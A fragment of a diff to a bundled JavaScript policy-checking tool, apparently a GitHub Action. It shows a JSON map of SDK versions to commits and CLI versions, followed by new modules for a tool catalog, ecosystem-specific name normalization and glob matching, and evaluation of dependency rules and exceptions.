55d909193e150","date":"2025-11-21","cliVersions":["2.0.50"]},"v1.0.21":{"commit":"a7e4c51380c42dd89b127f5e5f9be7b54020bc6b","date":"2025-11-24","cliVersions":["2.0.50"]},"v1.0.22":{"commit":"6337623ebba10cf8c8214b507993f8062fd4ccfb","date":"2025-12-01","cliVersions":["2.0.55"]},"v1.0.23":{"commit":"f0c8eb29807907de7f5412d04afceb5e24817127","date":"2025-12-09","cliVersions":["2.0.62"]},"v1.0.24":{"commit":"9acae263e77da97965c98d00cd907a992877e5e8","date":"2025-12-15","cliVersions":["2.0.70"]},"v1.0.25":{"commit":"d7b6d50442a89f005016e778bf825a72ef582525","date":"2025-12-16","cliVersions":["2.0.70"]},"v1.0.26":{"commit":"0d1933529914177075d5bc3558ae3d047f188146","date":"2025-12-17","cliVersions":["2.0.72"]},"v1.0.27":{"commit":"7145c3e0510bcdbdd29f67cc4a8c1958f1acfa2f","date":"2025-12-19","cliVersions":["2.0.74"]},"v1.0.28":{"commit":"c9ec2b02b40ac0444c6716e51d5e19ef2e0b8d00","date":"2026-01-06","cliVersions":["2.0.76"]},"v1.0.29":{"commit":"1b8ee3b94104046d71fde52ec3557651ad8c0d71","date":"2026-01-08","cliVersions":["2.1.1"]},"v1.0.30":{"commit":"a017b830c03e23789b11fb69ed571ea61c12e45c","date":"2026-01-16","cliVersions":["2.1.9"]},"v1.0.31":{"commit":"2316a9a8dbe4e7ac26008088f966f8c290e9a2e1","date":"2026-01-21","cliVersions":["2.1.15"]},"v1.0.32":{"commit":"2804b4174b054e2240c1e706c901b7d84f3d43f5","date":"2026-01-22","cliVersions":["2.1.16"]},"v1.0.33":{"commit":"8341a564b0c1693e9fa29c681852ee3714980098","date":"2026-01-22","cliVersions":["2.1.17"]},"v1.0.34":{"commit":"f64219702d7454cf29fe32a74104be6ed43dc637","date":"2026-01-23","cliVersions":["2.1.19"]},"v1.0.35":{"commit":"4126f9d9757c0875ff758aa45f3935bc9e3dd1e9","date":"2026-01-27","cliVersions":["2.1.20"]},"v1.0.36":{"commit":"231bd75b7196d48291c1498f1c6d277c2810d9a3","date":"2026-01-26","cliVersions":["2.1.20"]},"v1.0.37":{"commit":"2817c54db8f44f3a0485d57292566bf07d428a25","date":"2026-01-28","cliVersions":["2.1.22"]},"v1.0.38":{"commit":"ff34ce0ff04a470bd3fa56c1ef391c8f1c19f8e9","date":"2026-01-29","cliVersions":["2.1.23"]},"v1.0.39":{"commit":"01e756b34ef7a1447e9508f674143b07d20c2631","date":"2026-01-29","cliVersions":["2.1.25"]},"v1.0.40":{"commit":"0ed5eeaa54d3b0170e79f1ff29996342cf0605f1","date":"2026-01-30","cliVersions":["2.1.27"]},"v1.0.41":{"commit":"70e16deb18402428bd09e08d1ec3662a872e3c72","date":"2026-01-31","cliVersions":["2.1.29"]},"v1.0.42":{"commit":"98af40b63cf43de3440823d121ad65e9937b4541","date":"2026-02-03","cliVersions":["2.1.30"]},"v1.0.43":{"commit":"6867bb3ab0b2c0a10629b6823e457347e74ad6d2","date":"2026-02-04","cliVersions":["2.1.31"]},"v1.0.44":{"commit":"006aaf2935208098c2b871c8233c9637db8b553d","date":"2026-02-05","cliVersions":["2.1.31","2.1.32"]},"v1.0.45":{"commit":"b113f49a56229d8276e2bf05743ad6900121239c","date":"2026-02-06","cliVersions":["2.1.31","2.1.33"]},"v1.0.46":{"commit":"6c61301d8e1ee91bef7b65172f93462bbb216394","date":"2026-02-07","cliVersions":["2.1.31","2.1.37"]},"v1.0.47":{"commit":"b433f16b30d54063fd3bab6b12f46f3da00e41b6","date":"2026-02-10","cliVersions":["2.1.31","2.1.38"]},"v1.0.48":{"commit":"23ed4cb53d6eacddbc22ec16652c98bcc54e0476","date":"2026-02-10","cliVersions":["2.1.31","2.1.39"]},"v1.0.49":{"commit":"f669191d7d1e67f08a54b0c11cf5683a9a391951","date":"2026-02-12","cliVersions":["2.1.31","2.1.39"]},"v1.0.50":{"commit":"c22f7c3f9dbdf2faa98a4c3139f7ec9eb5a691dc","date":"2026-02-12","cliVersions":["2.1.31","2.1.39"]},"v1.0.51":{"commit":"ea36d6abdedc17fc2a671b36060770b208a6f8f1","date":"2026-02-13","cliVersions":["2.1.31","2.1.42"]},"v1.0.52":{"commit":"68cfeead1890300cc87935dbe2c023825be87b8a","date":"2026-02-15","cliVersions":["2.1.42"]},"v1.0.53":{"commit":"2f8ba26a219c06cfb0f468eef8d97055fa814f97","date":"2026-02-16","cliVersions":["2.1.44"]},"v1.0.54":{"commit":"0cf5eeec4f908121edd03a81411b55485994f8d3","date":"2026-02-18","cliVersions":["2.1.47"]},"v1.0.55":{"commit":"edd85d61533cbba7b57ed0ca4af1750b1fdfd3c4","date":"2026-02-19","cliVersions":["2.1.49"]},"v1.0.56":{"commit":"fa3312a107acfa81df144e00a50bb0ef147f0eef","date":"2026-02-24","cliVersions":["2.1.51"]},"v1.0.57":{"commit":"35a9e0292d36f1186f5d842b14eb575074e8b450","date":"2026-02-24","cliVersions":["2.1.52"]},"v1.0.58":{"commit":"6ae1b29ba24a87419d013ae521ac0720d5771505","date":"2026-02-25","cliVersions":["2.1.53"]},"v1.0.59":{"commit":"48fe7dd592a95d1620f0194d0c3d741a6211408f","date":"2026-02-25","cliVersions":["2.1.55"]},"v1.0.60":{"commit":"ade221fd1c400376a4799977d683a4eda09f9d7c","date":"2026-02-25","cliVersions":["2.1.56"]},"v1.0.61":{"commit":"cd4b150a2afcef337765d988d8b2cf49d48d2ad2","date":"2026-02-25","cliVersions":["2.1.58"]},"v1.0.62":{"commit":"273fe825408ddced56cb02b228a74c72bed8241e","date":"2026-02-26","cliVersions":["2.1.59"]},"v1.0.63":{"commit":"1dd74842e568f373608605d9e45c9e854f65f543","date":"2026-02-26","cliVersions":["2.1.61"]},"v1.0.64":{"commit":"ba7fa4bcf054319261202aef93d71a89112a8d00","date":"2026-02-28","cliVersions":["2.1.63"]},"v1.0.65":{"commit":"220272d38887a1caed373da96a9ffdb0919c26cc","date":"2026-03-01","cliVersions":["2.1.63"]},"v1.0.66":{"commit":"64c7a0ef71df67b14cb4471f4d9c8565c61042bf","date":"2026-03-02","cliVersions":["2.1.63"]},"v1.0.67":{"commit":"5f8e5bfe5b03891348854ae401476fc905a6ff6a","date":"2026-03-04","cliVersions":["2.1.66"]},"v1.0.68":{"commit":"e763fe78de2db7389e04818a00b5ff8ba13d1360","date":"2026-03-04","cliVersions":["2.1.68"]},"v1.0.69":{"commit":"1fc90f3ed982521116d8ff6d85b948c9b12cae3e","date":"2026-03-05","cliVersions":["2.1.69"]},"v1.0.70":{"commit":"26ec041249acb0a944c0a47b6c0c13f05dbc5b44","date":"2026-03-06","cliVersions":["2.1.70"]},"v1.0.71":{"commit":"5d0cc745cd0cce4c0e9e0b3511de26c3bc285eb5","date":"2026-03-12","cliVersions":["2.1.73"]},"v1.0.72":{"commit":"cd77b50d2b0808657f8e6774085c8bf54484351c","date":"2026-03-14","cliVersions":["2.1.76"]},"v1.0.73":{"commit":"1b422b3517b51140e4484faab676c5e68b914866","date":"2026-03-17","cliVersions":["2.1.78"]},"v1.0.74":{"commit":"1ba15be4f0b0c9a026c0c7986668f8f2aa998440","date":"2026-03-18","cliVersions":["2.1.78"]},"v1.0.75":{"commit":"df37d2f0760a4b5683a6e617c9325bc1a36443f6","date":"2026-03-18","cliVersions":["2.1.79"]},"v1.0.76":{"commit":"6062f3709600659be5e47fcddf2cf76993c235c2","date":"2026-03-20","cliVersions":["2.1.81"]},"v1.0.77":{"commit":"ff9acae5886d41a99ed4ec14b7dc147d55834722","date":"2026-03-23","cliVersions":["2.1.81"]},"v1.0.78":{"commit":"0ee1beea589a67d33340072691a5d42abec7ae6b","date":"2026-03-25","cliVersions":["2.1.83"]},"v1.0.79":{"commit":"3ac52d0da9f8ec9ca7b4dc23bb477e36ef9c77a9","date":"2026-03-26","cliVersions":["2.1.84"]},"v1.0.80":{"commit":"094bd24d575e7b30ac1576024817bf1a97c81262","date":"2026-03-26","cliVersions":["2.1.85"]},"v1.0.81":{"commit":"e7b588b6eaa5263c2e7c6c7b34a29e190d32ee68","date":"2026-03-27","cliVersions":["2.1.86"]},"v1.0.82":{"commit":"88c168b39e7e64da0286d812b6e9fbebb6708185","date":"2026-03-29","cliVersions":["2.1.87"]},"v1.0.83":{"commit":"bee87b3258c251f9279e5371b0cc3660f37f3f77","date":"2026-04-01","cliVersions":["2.1.89"]},"v1.0.84":{"commit":"408a40e7c283816edd884ce7e99d7b535a396d89","date":"2026-04-01","cliVersions":["2.1.87"]},"v1.0.85":{"commit":"58dbe8ed6879f0d3b02ac295b20d5fdfe7733e0c","date":"2026-04-01","cliVersions":["2.1.90"]},"v1.0.86":{"commit":"ba026a3e56b9f646ae3b1be02dd9c0812aa2f8ae","date":"2026-04-02","cliVersions":["2.1.90"]},"v1.0.87":{"commit":"0432df8bfe0572278dd19bca33be32cdc8061ebb","date":"2026-04-03","cliVersions":["2.1.91"]},"v1.0.88":{"commit":"1eddb334cfa79fdb21ecbe2180ca1a016e8e7d47","date":"2026-04-04","cliVersions":["2.1.92"]},"v1.0.89":{"commit":"6e2bd52842c65e914eba5c8badd17560bd26b5de","date":"2026-04-05","cliVersions":["2.1.92"]},"v1.0.90":{"commit":"26ddc358fe3befff50c5ec2f80304c90c763f6f8","date":"2026-04-08","cliVersions":["2.1.96"]},"v1.0.91":{"commit":"2ff1acb3ee319fa302837dad6e17c2f36c0d98ea","date":"2026-04-08","cliVersions":["2.1.97"]},"v1.0.92":{"commit":"657fb7c9c986158a19624b357bcbc8c6deb83598","date":"2026-04-09","cliVersions":["2.1.98"]},"v1.0.93":{"commit":"b47fd721da662d48c5680e154ad16a73ed74d2e0","date":"2026-04-10","cliVersions":["2.1.101"]},"v1.0.94":{"commit":"1c8b699d43e9bfed42b48ef15da85d89bab70960","date":"2026-04-13","cliVersions":["2.1.105"]},"v1.0.95":{"commit":"39431830520a7ae6c0c572f11a7707e7043325e3","date":"2026-04-14","cliVersions":["2.1.108"]},"v1.0.96":{"commit":"5fb899572b81d2bb648d4d187173a2f423a9677c","date":"2026-04-15","cliVersions":["2.1.109"]},"v1.0.97":{"commit":"905d4eb99ab3d43143d74fb0dcae537f29ac330a","date":"2026-04-15","cliVersions":["2.1.110"]},"v1.0.98":{"commit":"931e62027356f4c337273719db085805456e53cc","date":"2026-04-16","cliVersions":["2.1.111"]},"v1.0.99":{"commit":"c3d45e8e941e1b2ad7b278c57482d9c5bf1f35b3","date":"2026-04-16","cliVersions":["2.1.112"]},"v1.0.100":{"commit":"0d2971c794049856e777f4e8bb5a81623ec632d3","date":"2026-04-17","cliVersions":["2.1.113"]},"v1.0.101":{"commit":"38ec876110f9fbf8b950c79f534430740c3ac009","date":"2026-04-18","cliVersions":["2.1.114"]},"v1.0.102":{"commit":"5d5c10a4f389689f992ea10bb14dcb6fcc83146d","date":"2026-04-20","cliVersions":["2.1.116"]},"v1.0.103":{"commit":"4e5d8b13ca281a6d163cdb287d8917b216e00d6f","date":"2026-04-22","cliVersions":["2.1.117"]},"v1.0.104":{"commit":"b4d67413279fc18c6e5de930ae307c4f108714eb","date":"2026-04-23","cliVersions":["2.1.118"]},"v1.0.105":{"commit":"e58dfa55559035499a4982426bb73605e8b5ad8e","date":"2026-04-23","cliVersions":["2.1.119"]},"v1.0.106":{"commit":"2da6cfae686f4d400300e440e0228b971388afed","date":"2026-04-25","cliVersions":["2.1.120"]},"v1.0.107":{"commit":"567fe954a4527e81f132d87d1bdbcc94f7737434","date":"2026-04-25","cliVersions":["2.1.119"]},"v1.0.108":{"commit":"11a9dadd198803a0cea6bd53da3e0e8a762fc6ea","date":"2026-04-28","cliVersions":["2.1.121"]},"v1.0.109":{"commit":"b3c0320e7e8228fcafe773fda5bfd427aa8d1c34","date":"2026-04-28","cliVersions":["2.1.122"]},"v1.0.110":{"commit":"ef50f123a3a9be95b60040d042717517407c7256","date":"2026-04-29","cliVersions":["2.1.123"]},"v1.0.111":{"commit":"fefa07e9c665b7320f08c3b525980457f22f58aa","date":"2026-05-01","cliVersions":["2.1.126"]},"v1.0.112":{"commit":"2cc1ac1331eac7a6a96d716dd204dd2888d0fcd2","date":"2026-05-04","cliVersions":["2.1.128"]},"v1.0.113":{"commit":"7d7d3055f1fdc9a97a040c69ead9ba392fa6326a","date":"2026-05-06","cliVersions":["2.1.129"]},"v1.0.114":{"commit":"62238ddb33772a079b0a6d8665a1ff3043583067","date":"2026-05-06","cliVersions":["2.1.131"]},"v1.0.115":{"commit":"9db782c3a17ef2bfc274cd17411bc3e0a5ba1345","date":"2026-05-06","cliVersions":["2.1.132"]},"v1.0.116":{"commit":"939ae9c056ecf8a1a01409ddd1c4eadec5f8c77b","date":"2026-05-07","cliVersions":["2.1.133"]},"v1.0.117":{"commit":"034cbdb008291e7eeeac420d315fc3b45fca3781","date":"2026-05-08","cliVersions":["2.1.136"]},"v1.0.118":{"commit":"ad67978e5eb3fc76e3c86855adc19db5673fa818","date":"2026-05-09","cliVersions":["2.1.137"]},"v1.0.119":{"commit":"476e359e6203e73dad705c8b322e333fabbd7416","date":"2026-05-09","cliVersions":["2.1.138"]},"v1.0.120":{"commit":"dde2242db6af13460b916652159b6ba19a598f30","date":"2026-05-11","cliVersions":["2.1.139"]},"v1.0.121":{"commit":"f4fb5c6cdccc1ee7af63692f5d08d56efaa64cc8","date":"2026-05-12","cliVersions":["2.1.140"]},"v1.0.122":{"commit":"86eb26bf0139bdd75acd15ea5f00f45ee0a284c2","date":"2026-05-13","cliVersions":["2.1.141"]},"v1.0.123":{"commit":"51ea8ea73a139f2a74ff649e3092c25a904aed7e","date":"2026-05-14","cliVersions":["2.1.142"]},"v1.0.124":{"commit":"24492741e0ccfdef4c1d19da8e11e0f373d07494","date":"2026-05-19","cliVersions":["2.1.144"]},"v1.0.125":{"commit":"fd1877debc1340db5a461a0e4644931de8e1c271","date":"2026-05-19","cliVersions":["2.1.144"]},"v1.0.126":{"commit":"ca89df3d42dc1bc03c5ab87f533195bef6d36af0","date":"2026-05-19","cliVersions":["2.1.145"]},"v1.0.127":{"commit":"1dc994ee7a008f0ecc866d9ac23ef036b7229f84","date":"2026-05-19","cliVersions":["2.1.145"]},"v1.0.128":{"commit":"20c8abf165d5f85ab3fc970db9498436377dc9d1","date":"2026-05-21","cliVersions":["2.1.146"]},"v1.0.129":{"commit":"c9d66afb1788e701c57d58842e324dca17fd276e","date":"2026-05-21","cliVersions":["2.1.147"]},"v1.0.130":{"commit":"661a6fefbd0569ef35809da16775508ab1937862","date":"2026-05-21","cliVersions":["2.1.147"]},"v1.0.131":{"commit":"4481e6d3c7bbb88db2a928ca3444c536f589c7c1","date":"2026-05-22","cliVersions":["2.1.148"]},"v1.0.132":{"commit":"bbfaf8e1ffe3e688f7ab65ceee78de241e24a238","date":"2026-05-22","cliVersions":["2.1.149"]},"v1.0.133":{"commit":"787c5a0ce96a9a6cfb050ea0c8f4c05f2447c251","date":"2026-05-23","cliVersions":["2.1.150"]},"v1.0.134":{"commit":"36a69b6a90b850823f86de06fdfd56264772ad98","date":"2026-06-02","cliVersions":["2.1.161"]},"v1.0.135":{"commit":"70a6e5256e9e2366a1ed5c041904a982ba3a328f","date":"2026-06-03","cliVersions":["2.1.162"]},"v1.0.136":{"commit":"0b1b62002952733671bde978d429b50b51c51c85","date":"2026-06-04","cliVersions":["2.1.163"]},"v1.0.137":{"commit":"41ea7642c1436fa0ee57aae58347904b71a5af27","date":"2026-06-05","cliVersions":["2.1.165"]},"v1.0.138":{"commit":"410165836eba8e7e60fc3587e60bebdfd35ca785","date":"2026-06-06","cliVersions":["2.1.166"]},"v1.0.139":{"commit":"64de744025ca9e24df2b88204b4f1e968f39f009","date":"2026-06-06","cliVersions":["2.1.167"]},"v1.0.140":{"commit":"fbda2eb1bdc90d319b8d853f5deb53bca199a7c1","date":"2026-06-06","cliVersions":["2.1.168"]},"v1.0.141":{"commit":"593d7a5c4e0073569f74772c2b7b64c30ec14707","date":"2026-06-08","cliVersions":["2.1.169"]},"v1.0.142":{"commit":"11ba60486e4aec9ddfeafcf4bb3f00b028ac2c16","date":"2026-06-09","cliVersions":["2.1.170"]},"v1.0.143":{"commit":"eee73e2ae5399c561de4ff038aa7b36a7aa991a7","date":"2026-06-10","cliVersions":["2.1.172"]},"v1.0.144":{"commit":"0f97b95b6536c26e5f6bd90faec370d41695beca","date":"2026-06-11","cliVersions":["2.1.173"]},"v1.0.145":{"commit":"ebcdfe6dc6bb7511eb63e59e07df256dbcf59a2e","date":"2026-06-12","cliVersions":["2.1.174"]},"v1.0.146":{"commit":"0cb4f3e5e764d2e00407d29b6bf0aa9df0976d88","date":"2026-06-12","cliVersions":["2.1.175"]},"v1.0.147":{"commit":"56fa348258fbcb1aeb8d3954d5799b5991098481","date":"2026-06-12","cliVersions":["2.1.176"]},"v1.0.148":{"commit":"d5726de019ec4498aa667642bc3a80fca83aa102","date":"2026-06-13","cliVersions":["2.1.177"]},"v1.0.149":{"commit":"4d7e1f0cd85743fdc93b1c8040ab54395da024e2","date":"2026-06-15","cliVersions":["2.1.178"]},"v1.0.150":{"commit":"9dd8b95a392eb34b6f5fb56cf5a64cb735912d4b","date":"2026-06-16","cliVersions":["2.1.179"]},"v1.0.151":{"commit":"806af32823ef69c8ef357086c573a902af641307","date":"2026-06-17","cliVersions":["2.1.181"]},"v1.0.152":{"commit":"51705da45eecce209d4700538bf8377d5b5fc695","date":"2026-06-19","cliVersions":["2.1.183"]},"v1.0.153":{"commit":"2fee15510437d71399d9139ed60433470484a8fb","date":"2026-06-20","cliVersions":["2.1.185"]},"v1.0.154":{"commit":"30544b674398ee15c84819bd87caf8a87e8c7b55","date":"2026-06-22","cliVersions":["2.1.186"]},"v1.0.155":{"commit":"80b31826338489861333dc17217865dfe8085cdc","date":"2026-06-23","cliVersions":["2.1.187"]},"v1.0.156":{"commit":"74eedf1a1892082d619c3edb66b9402da6520e7f","date":"2026-06-24","cliVersions":["2.1.190"]},"v1.0.157":{"commit":"428971d2ecd6e3a7cb0ee0da2a3a8b33fdb3678d","date":"2026-06-24","cliVersions":["2.1.191"]},"v1.0.158":{"commit":"521136812280ae7ef256e06045655b9da02793f0","date":"2026-06-25","cliVersions":["2.1.193"]},"v1.0.159":{"commit":"a92e7c70a4da9793dc164451d829089dc057a464","date":"2026-06-26","cliVersions":["2.1.195"]},"v1.0.160":{"commit":"4633baf5267540f3f8cb58b684f79901d564c280","date":"2026-06-29","cliVersions":["2.1.196"]},"v1.0.161":{"commit":"fad22eb3fa582b7357fc0ea48af6645851b884fd","date":"2026-06-30","cliVersions":["2.1.197"]},"v1.0.162":{"commit":"6c0083bb7289c31716797a039b6367b3079cc46e","date":"2026-07-01","cliVersions":["2.1.198"]},"v1.0.163":{"commit":"769e3bdff9bb7ecfb51bad4c9cba23d6f5fc5ea5","date":"2026-07-02","cliVersions":["2.1.199"]},"v1.0.164":{"commit":"01872ccc02bf66740207fb338a783ce028216758","date":"2026-07-03","cliVersions":["2.1.200"]},"v1.0.165":{"commit":"558b1d6cab4085c7753fe402c10bef0fbb92ac7a","date":"2026-07-03","cliVersions":["2.1.201"]},"v1.0.166":{"commit":"f87768c6d25f92ae6efa7175e223ef77d4cbf97f","date":"2026-07-06","cliVersions":["2.1.202"]},"v1.0.167":{"commit":"0fe28cdb64e23015219b0e478100b7105fd7dfa1","date":"2026-07-07","cliVersions":["2.1.203"]},"v1.0.168":{"commit":"ba0aafd4308cbba7165f9f2cdb0cfbed5a3c99ce","date":"2026-07-08","cliVersions":["2.1.204"]},"v1.0.169":{"commit":"37b464ce72700f7b2c5ff8d2db7fa7b15df792f5","date":"2026-07-08","cliVersions":["2.1.205"]},"v1.0.170":{"commit":"536f2c32a39763739000b0e1ac69ca2647d97ce9","date":"2026-07-09","cliVersions":["2.1.206"]},"v1.0.171":{"commit":"e90deca47693f9457b72f2b53c17d7c445a87342","date":"2026-07-11","cliVersions":["2.1.207"]},"v1.0.172":{"commit":"a08f8913d58013599003b37d3a9174d27e99ac90","date":"2026-07-14","cliVersions":["2.1.208"]},"v1.0.173":{"commit":"f1bd27ca5b54584506e40e17884d90bdaaa1a9b3","date":"2026-07-14","cliVersions":["2.1.209"]},"v1.0.174":{"commit":"12531344451323133b0493233c759991ac61da12","date":"2026-07-14","cliVersions":["2.1.210"]},"v1.0.175":{"commit":"1298632ce7736903d02a1435002705aa2a594a6c","date":"2026-07-15","cliVersions":["2.1.211"]},"v1.0.176":{"commit":"700e7f8316990de46bed556429765647af760efc","date":"2026-07-17","cliVersions":["2.1.212"]},"v1.0.177":{"commit":"3553f84341b92da26052e28acf1aa898f9511f32","date":"2026-07-18","cliVersions":["2.1.214"]},"v1.0.178":{"commit":"af0559ee4f514d1ef21826982bed13f7edc3c35e","date":"2026-07-19","cliVersions":["2.1.215"]},"v1.0.179":{"commit":"b76a0776ae74036e77cd11018083743453d7ad35","date":"2026-07-20","cliVersions":["2.1.216"]},"v1.0.180":{"commit":"fa7e2f0a29a126f0b81cdcf360561b36e44cf608","date":"2026-07-21","cliVersions":["2.1.217"]},"v1.0.181":{"commit":"44423bdec74b97d67543eb16c110546762c110b2","date":"2026-07-22","cliVersions":["2.1.218"]},"v1.0.182":{"commit":"e0cf66d1d257526b5d07f141838c338921cb8455","date":"2026-07-24","cliVersions":["2.1.219"]},"v1.0.183":{"commit":"be7b93b1907a4abad570368f3c74b6fe3807510b","date":"2026-07-25","cliVersions":["2.1.220"]},"v1.0.184":{"commit":"86180fa9e4d311eed10c9cc49854c53dab5d517a","date":"2026-08-04","cliVersions":["2.1.221"]},"v1.0.185":{"commit":"9db594c7a0e82298c121c18b7f08aa1579ce7341","date":"2026-08-04","cliVersions":["2.1.222"]},"v1.0.186":{"commit":"c038e4dcdedfbbca18dfb17df35a17e40ded4ddc","date":"2026-08-06","cliVersions":["2.1.223"]},"v1.0.187":{"commit":"1623c36729ac1cd5895198cded705a287de7db79","date":"2026-08-07","cliVersions":["2.1.224"]},"v1.0.188":{"commit":"7ff6806c8ebd129a7043b947af920074d3819dc8","date":"2026-08-08","cliVersions":["2.1.225"]},"v1.0.189":{"commit":"6b082c41935b4c8a3b8b0ef85ba4ba4d9eeb8975","date":"2026-08-08","cliVersions":["2.1.226"]},"v1.0.190":{"commit":"5ef2e550a465a721f4f45e4a7d3c340c873e1dcc","date":"2026-08-10","cliVersions":["2.1.227"]},"v1.0.191":{"commit":"239e3a730883eeb5c53db12b0fc9573b3024b126","date":"2026-08-11","cliVersions":["2.1.228"]},"v1.0.192":{"commit":"e63208cb983318a44e3f945e959ef894b707dcfa","date":"2026-08-13","cliVersions":["2.1.232"]},"v1.0.193":{"commit":"9d7150bc8a3dae8149739a88019d192b579ad90c","date":"2026-08-14","cliVersions":["2.1.233"]},"v1.0.194":{"commit":"459ad358ae43fea66bfefd0a1f8d840b4b9791fb","date":"2026-08-17","cliVersions":["2.1.234"]},"v1.0.195":{"commit":"d40ddef4c030e508327d6e35a9c45f3368482c50","date":"2026-08-18","cliVersions":["2.1.235"]},"v1.0.196":{"commit":"e2a4b761cd77a1138a5b41410eda9b28581f9bcd","date":"2026-08-19","cliVersions":["2.1.236"]},"v1.0.197":{"commit":"5ee796a55f92566ecd7e39d70dd613abcbea0d7c","date":"2026-08-20","cliVersions":["2.1.237"]},"v1.0.198":{"commit":"3f854a8fb5146b39d5cbf8b57f70d80810e1366f","date":"2026-08-20","cliVersions":["2.1.238"]},"v1.0.199":{"commit":"dcb57747bfceeaa1fa72638cae52295d1d853d4a","date":"2026-08-21","cliVersions":["2.1.239"]},"v1.0.200":{"commit":"24dcd50c0568f0fc9e9211213a4fd2d9eb15c4e0","date":"2026-08-22","cliVersions":["2.1.240"]},"v1":{"commit":"24dcd50c0568f0fc9e9211213a4fd2d9eb15c4e0","date":"2026-08-22","cliVersions":["2.1.240"]}}}');
 ;// CONCATENATED MODULE: ./src/catalog/data/claude-agent-sdk-npm.json
@@ -52566,6 +66734,1265 @@ const tools_tools = [
     openhands,
 ];
 
+;// CONCATENATED MODULE: ./src/catalog/index.ts
+
+
+
+const catalog_byId = new Map(tools_tools.map((t) => [t.id, t]));
+const catalog = {
+    tools: tools_tools,
+    tool: (id) => catalog_byId.get(id),
+};
+/**
+ * For devcontainer detectors: the option of a known feature that carries the tool version and its
+ * default (`undefined` for a feature the catalog does not know; `null` for a known feature without a
+ * version option, which always installs the latest release).
+ */
+function featureVersionOption(featureId) {
+    const id = featureId.toLowerCase();
+    for (const t of tools) {
+        for (const c of t.carriers) {
+            if (c.ecosystem === 'devcontainer-feature' && c.package === id)
+                return c.versionOption ?? null;
+        }
+    }
+    return undefined;
+}
+/** The tools a component could belong to (for reports and for `builtin:ai-coding-tools`). */
+function carriersOf(ecosystem) {
+    const out = [];
+    for (const tool of tools)
+        for (const carrier of tool.carriers)
+            if (carrier.ecosystem === ecosystem)
+                out.push({ tool, carrier });
+    return out;
+}
+
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var picomatch = __nccwpck_require__(14006);
+var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
+;// CONCATENATED MODULE: ./src/policy/names.ts
+/** The canonical form of a name for comparison in its ecosystem. */
+function normalizeName(ecosystem, name) {
+    switch (ecosystem) {
+        case 'pypi':
+            return name.toLowerCase().replace(/[-_.]+/g, '-'); // PEP 503
+        case 'vscode-extension': // publisher.name, case-insensitive
+        case 'devcontainer-feature': // OCI ids are lowercase
+        case 'github-action': // owner/repo, case-insensitive on GitHub
+        case 'homebrew':
+        case 'installer':
+            return name.toLowerCase();
+        default:
+            return name; // npm and jsr names are case-sensitive (and lowercase when published)
+    }
+}
+/**
+ * A name glob: `*` is any run of characters (including `/`, so `@anthropic-ai/*` and `*` cover
+ * scoped names and `owner/*` covers every action of an owner), `?` one character; nothing else is
+ * special. Matched by the classic two-pointer wildcard algorithm: O(pattern × name) at worst, no
+ * regular-expression backtracking on hostile patterns.
+ */
+function globMatches(pattern, name) {
+    let p = 0;
+    let n = 0;
+    let star = -1;
+    let mark = 0;
+    while (n < name.length) {
+        if (p < pattern.length && (pattern[p] === '?' || pattern[p] === name[n])) {
+            p++;
+            n++;
+        }
+        else if (p < pattern.length && pattern[p] === '*') {
+            star = p++;
+            mark = n;
+        }
+        else if (star >= 0) {
+            p = star + 1;
+            n = ++mark;
+        }
+        else
+            return false;
+    }
+    while (p < pattern.length && pattern[p] === '*')
+        p++;
+    return p === pattern.length;
+}
+/** Whether a name matches an exact name or a `*` glob, in the ecosystem's comparison. */
+function nameMatches(ecosystem, pattern, name) {
+    const p = normalizeName(ecosystem, pattern);
+    const n = normalizeName(ecosystem, name);
+    if (!p.includes('*') && !p.includes('?'))
+        return p === n;
+    return globMatches(p, n);
+}
+
+;// CONCATENATED MODULE: ./src/policy/evaluate.ts
+
+
+
+function carrierKey(ecosystem, name) {
+    return `${ecosystem}\u0000${name}`;
+}
+/** Judges every component against every rule and exception of a merged policy. */
+function evaluate(components, policy, options) {
+    const now = options.now ?? new Date();
+    // Tool rules expand to their carriers, indexed by identity: one look-up per component.
+    const byCarrier = new Map();
+    const packageRules = [];
+    policy.rules.forEach((rule, ruleIndex) => {
+        if (rule.tool !== undefined) {
+            const tool = options.catalog.tool(rule.tool);
+            if (!tool)
+                return;
+            for (const carrier of tool.carriers) {
+                const k = carrierKey(carrier.ecosystem, normalizeName(carrier.ecosystem, carrier.package));
+                const list = byCarrier.get(k) ?? [];
+                if (!list.some((e) => e.rule === rule))
+                    list.push({ ruleIndex, rule, tool, carrier });
+                byCarrier.set(k, list);
+            }
+        }
+        else {
+            packageRules.push({ ruleIndex, rule });
+        }
+    });
+    const exceptionState = new Map();
+    for (const ex of policy.exceptions)
+        exceptionState.set(ex, { used: false, expired: isExpired(ex, now) });
+    const findings = [];
+    for (const component of components) {
+        const matches = [];
+        for (const e of byCarrier.get(carrierKey(component.ecosystem, normalizeName(component.ecosystem, component.name))) ?? []) {
+            const m = matchToolRule(e, component);
+            if (m)
+                matches.push({ ruleIndex: e.ruleIndex, match: m });
+        }
+        for (const { ruleIndex, rule } of packageRules) {
+            const m = matchPackageRule(rule, component);
+            if (m)
+                matches.push({ ruleIndex, match: m });
+        }
+        matches.sort((a, b) => a.ruleIndex - b.ruleIndex);
+        for (const { match } of matches) {
+            const unknownAction = unknownActionFor(match.rule, policy.settings.unknownVersion);
+            if (match.unknown !== undefined && unknownAction === 'ignore')
+                continue;
+            const finding = findingFor(component, match, unknownAction);
+            for (const ex of policy.exceptions) {
+                if (!exceptionApplies(ex, match, component))
+                    continue;
+                const state = exceptionState.get(ex);
+                state.used = true;
+                if (state.expired)
+                    continue;
+                finding.action = 'pass';
+                finding.exception = { reason: ex.reason, expires: ex.expires };
+                break;
+            }
+            findings.push(finding);
+        }
+    }
+    const notices = [];
+    for (const ex of policy.exceptions) {
+        const state = exceptionState.get(ex);
+        const where = ex.origin ? { origin: ex.origin } : {};
+        if (state.expired) {
+            notices.push({
+                kind: 'expired-exception',
+                message: `exception for rule ${ex.rule} expired on ${ex.expires} and no longer applies (${ex.reason})`,
+                ...where,
+            });
+        }
+        else if (!state.used) {
+            notices.push({
+                kind: 'stale-exception',
+                message: `exception for rule ${ex.rule} matches nothing: it is stale and can be removed (${ex.reason})`,
+                ...where,
+            });
+        }
+    }
+    return { findings, notices };
+}
+const STRICTNESS = { ignore: 0, warn: 1, fail: 2 };
+/** What an unknown version becomes under a rule: the setting, or the locked rule's floor if stricter. */
+function unknownActionFor(rule, setting) {
+    const floor = rule.unknownVersionFloor;
+    return floor !== undefined && STRICTNESS[floor] > STRICTNESS[setting] ? floor : setting;
+}
+function mappingOf(carrier, version) {
